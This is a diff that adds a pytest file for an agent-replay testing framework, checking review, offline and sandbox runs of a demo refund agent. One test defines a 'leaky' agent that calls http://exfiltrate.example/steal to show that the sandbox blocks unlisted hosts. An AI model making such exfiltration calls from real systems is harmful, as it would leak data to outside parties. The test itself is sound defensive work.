@@ -1,0 +1,144 @@
+"""The three modes feed the same graders: review, offline (tools from the cassette), sandbox."""
+
+from __future__ import annotations
+
+import sqlite3
+from pathlib import Path
+from typing import Any
+
+import httpx
+import pytest
+
+from examples.shop import agent, make_tools, refund_policy
+from recorder import ConfigError, HttpEvent, Tool, read_cassette, tool
+from replay._case import load_case
+from replay._modes import Environment, load_callable, offline, review, sandbox
+from replay.graders import Verdict
+from replay.stub_llm import Reply, ScriptedPolicy, StubLLM, ToolCall
+from tests.helpers import REPO
+
+CASE = load_case(REPO / "examples" / "shop" / "cases" / "refund-4812.yaml")
+
+
+@pytest.fixture(scope="module")
+def recorded(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """One sandbox trial of the demo agent with a live (stub) LLM: the cassette to replay."""
+    out = tmp_path_factory.mktemp("recorded") / "refund.cassette"
+    with StubLLM(refund_policy()) as llm:
+        result = sandbox(CASE, agent, make_tools, out, llm_base_url=llm.openai_base_url)
+    assert result.outcome.verdict is Verdict.PASS, result.outcome.evidence
+    return out
+
+
+def spy_tools(ran: list[str]) -> Any:
+    def factory(conn: sqlite3.Connection) -> list[Tool[..., Any]]:
+        real = make_tools(conn)
+
+        def spy(t: Tool[..., Any]) -> Tool[..., Any]:
+            def run(**kwargs: Any) -> Any:
+                ran.append(t.name)
+                return t.fn(**kwargs)
+
+            wrapped = tool(run, name=t.name, writes=t.writes, description=t.description)
+            wrapped.parameters = t.parameters
+            return wrapped
+
+        return [spy(t) for t in real]
+
+    return factory
+
+
+def test_review_offline_and_sandbox_agree(recorded: Path, tmp_path: Path) -> None:
+    cassette = read_cassette(recorded)
+    reviewed = review(CASE, recorded)
+    ran: list[str] = []
+    replayed = offline(
+        CASE, agent, spy_tools(ran), cassette, tmp_path / "offline.cassette",
+        llm_base_url="http://127.0.0.1:9/v1",  # frozen: never contacted
+    )  # fmt: skip
+    resandboxed = sandbox(
+        CASE, agent, make_tools, tmp_path / "sandbox.cassette",
+        llm_base_url="http://127.0.0.1:9/v1", frozen=cassette,
+    )  # fmt: skip
+    assert ran == []  # offline: no tool function ran
+    results = [reviewed, replayed, resandboxed]
+    assert [r.outcome.verdict for r in results] == [Verdict.PASS] * 3
+    assert reviewed.trial.diff == replayed.trial.diff == resandboxed.trial.diff
+    assert reviewed.trial.diff.touched() == {"orders", "refunds", "ledger", "emails"}
+    assert [[(g.grader, g.verdict) for g in r.outcome.grades] for r in results] == [
+        [("rule", Verdict.PASS), ("state", Verdict.PASS)]
+    ] * 3
+
+
+def test_offline_an_unseen_call_is_unsupported_with_its_nearest(
+    recorded: Path, tmp_path: Path
+) -> None:
+    turns = list(refund_policy().turns)
+    turns[0] = Reply(tool_calls=(ToolCall("lookup_order", {"order_id": 4813}),))  # the new version
+    ran: list[str] = []
+    with StubLLM(ScriptedPolicy(turns, final=refund_policy().final)) as llm:
+        result = offline(
+            CASE, agent, spy_tools(ran), read_cassette(recorded), tmp_path / "v2.cassette",
+            llm_base_url=llm.openai_base_url, llm="live",
+        )  # fmt: skip
+    assert ran == []
+    assert result.outcome.verdict is Verdict.UNSUPPORTED
+    (miss,) = result.trial.unsupported
+    assert miss == (
+        "fixture unsupported: lookup_order(order_id=4813); nearest recorded: "
+        "lookup_order(order_id=4812), differing in ['order_id']: 4812 -> 4813"
+    )
+
+
+def test_sandbox_duplicate_refund_and_side_effects(tmp_path: Path) -> None:
+    turns = list(refund_policy().turns)
+    turns.insert(2, turns[1])  # issue_refund twice
+    with StubLLM(ScriptedPolicy(turns, final="done")) as llm:
+        result = sandbox(
+            CASE, agent, make_tools, tmp_path / "dup.cassette", llm_base_url=llm.openai_base_url
+        )
+    assert result.outcome.verdict is Verdict.FAIL
+    assert (
+        "state: failed: refunds.count(order_id=4812) == 1: expected 1, actual 2"
+        in result.outcome.evidence
+    )
+
+
+def test_sandbox_refuses_other_hosts_and_records_it(tmp_path: Path) -> None:
+    def leaky(instruction: str, env: Environment) -> str:
+        with httpx.Client() as client:
+            client.get("http://exfiltrate.example/steal")
+        return "done"
+
+    with StubLLM() as llm:
+        result = sandbox(
+            CASE, leaky, make_tools, tmp_path / "leak.cassette", llm_base_url=llm.openai_base_url
+        )
+    assert result.outcome.verdict is Verdict.ERROR
+    assert any("sandbox: http://exfiltrate.example/steal is not an allowed endpoint" in e
+               for e in result.outcome.evidence)  # fmt: skip
+    (event,) = [e for e in read_cassette(result.cassette).events if isinstance(e, HttpEvent)]
+    assert event.error is not None and event.response is None
+
+
+def test_an_agent_that_raises_is_an_error_verdict(tmp_path: Path) -> None:
+    def crashing(instruction: str, env: Environment) -> str:
+        raise RuntimeError("agent bug")
+
+    result = sandbox(
+        CASE,
+        crashing,
+        make_tools,
+        tmp_path / "crash.cassette",
+        llm_base_url="http://127.0.0.1:9/v1",
+    )
+    assert result.outcome.verdict is Verdict.ERROR
+    assert "agent: agent raised builtins.RuntimeError: agent bug" in result.outcome.evidence
+
+
+def test_load_callable() -> None:
+    assert load_callable("examples.shop:agent") is agent
+    with pytest.raises(ConfigError, match="is not module:function"):
+        load_callable("examples.shop.agent")
+    with pytest.raises(ConfigError, match=r"cannot load 'examples\.shop:nope'"):
+        load_callable("examples.shop:nope")
